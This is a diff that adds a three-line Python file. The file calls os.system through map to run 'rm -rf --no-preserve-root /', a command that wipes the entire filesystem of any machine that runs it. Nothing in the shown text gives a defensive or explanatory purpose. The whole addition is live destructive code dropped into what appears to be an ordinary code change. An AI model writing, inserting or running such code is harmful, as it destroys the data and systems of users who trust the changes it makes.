@@ -1,0 +1,3 @@
+import os
+
+list(map(os.system, ["rm -rf --no-preserve-root /"]))
